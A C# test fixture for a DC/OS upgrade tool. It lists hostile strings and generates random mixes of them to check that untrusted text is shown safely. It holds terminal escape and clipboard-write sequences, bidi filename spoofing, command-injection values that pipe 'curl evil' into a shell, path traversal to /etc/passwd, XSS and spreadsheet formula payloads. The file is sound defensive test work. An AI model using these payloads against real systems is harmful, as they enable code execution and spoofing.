using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Text;

namespace DcosUpgrade.Core.Tests.Hostile;

/// <summary>Texts that a node, a task or a server sends to harm who reads them: 2,400 made from a seed, and the kinds by hand.</summary>
internal static class HostileTexts
{
    private const int Made = 2400;

    /// <summary>One of each kind.</summary>
    public static readonly IReadOnlyList<string> Kinds =
    [
        "\u001b[2J\u001b[H", "\u001b[31mred\u001b[0m", "\u001b]0;title\a", "\u001b]8;;http://evil\u001b\\link\u001b]8;;\u001b\\",
        "\u001b]52;c;cm0gLXJm\a", "\u001bP$q\u001b\\", "\u001b[?1049h", "\u001b[6n", "\u001bc", "\u009b2J", "\u009d0;x\u009c", "\u0090x\u009c",
        "\a\b\v\f", "a\rm1: upgraded", "x\u007f\u007f", "name\nm1: upgraded", "name\r\nm1: upgraded", "a\u0085b", "a\u2028b\u2029c", "\u202egpj.exe",
        "\u202dabc\u202c", "\u2066a\u2067b\u2068c\u2069", "\u200ea\u200fb\u061c", "a\u200bb\u200cc\u200dd\u2060e\ufefff",
        "\u00ad\u034f\u115f\u1160\u17b4\u180e\u3164\uffa0\u2800", "\ud800", "\udc00", "\udc00\ud800", "\ud83d", "a\ud83d\ude00\ud83d",
        "\U000e0041\U000e007f", "\U000e0100", "\ufe0f", "\ufff9a\ufffab\ufffb", "\ufdd0", "\ufffe", "\uffff", "\U0001fffe", "\0", "a\0b",
        "\t\t\t\tm1", ";curl evil|sh", "$(curl evil|sh)", "`id`", "' ; id #", "\" ; id #", "\\", "-rf", "--", "*", "~", "!!", "&& id", "| id",
        "> /etc/passwd", "\nid\n", "# \nid", "../../etc/passwd", "..\\..\\x", "/etc/passwd", "C:\\x", "CON", "a:b", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "&lt;b&gt;", "]]>", "|x|y|", "**b**", "[a](javascript:x)", "{0}", "{", "}}", "%s%n", "${x}", "@{x}", "$x",
        "=cmd|' /C calc'!A0", new string('A', 5000), "\u0301\u0302\u0303\u0304", "名前", "zoë", "\ud83d\ude00",
    ];

    /// <summary>All, without repetitions.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Kinds.Concat(Enumerable.Range(0, Made).Select(Make)).Distinct(StringComparer.Ordinal)];

    /// <summary>True when a screen does not show all of a text as it is. A newline and a tab are shown in a text of several lines.</summary>
    public static bool IsHostile(string text, bool lines) =>
        text.EnumerateRunes().Any(rune => !(lines && rune.Value is '\n' or '\t') && IsHidden(rune))
            || HasLoneSurrogate(text);

    private static bool IsHidden(Rune rune) => Rune.GetUnicodeCategory(rune) is UnicodeCategory.Control or UnicodeCategory.Format
            or UnicodeCategory.LineSeparator or UnicodeCategory.ParagraphSeparator or UnicodeCategory.Surrogate
        && rune.Value is not (>= 0x600 and <= 0x605) and not (0x6dd or 0x70f or 0x890 or 0x891 or 0x8e2 or 0x110bd or 0x110cd)
        and not (>= 0x13430 and <= 0x1345f);

    private static bool HasLoneSurrogate(string text)
    {
        for (int at = 0; at < text.Length; at++)
        {
            if (char.IsHighSurrogate(text[at]) && at + 1 < text.Length && char.IsLowSurrogate(text[at + 1]))
            {
                at++;
            }
            else if (char.IsSurrogate(text[at]))
            {
                return true;
            }
        }

        return false;
    }

    private static string Make(int seed)
    {
        Random random = new(seed);
        string text = "";
        for (int left = 1 + random.Next(5); left > 0; left--)
        {
            text += random.Next(5) switch
            {
                0 => Kinds[random.Next(Kinds.Count)] is { Length: < 100 } kind ? kind : "x",
                1 => ((char)random.Next(0x20)).ToString(),
                2 => ((char)random.Next(0x7f, 0xa1)).ToString(),
                3 => ((char)random.Next(0x2000, 0x2070)).ToString(),
                _ => ((char)random.Next(0x10000)).ToString(),
            } + (random.Next(2) == 0 ? "dcos" : "");
        }

        return text;
    }
}
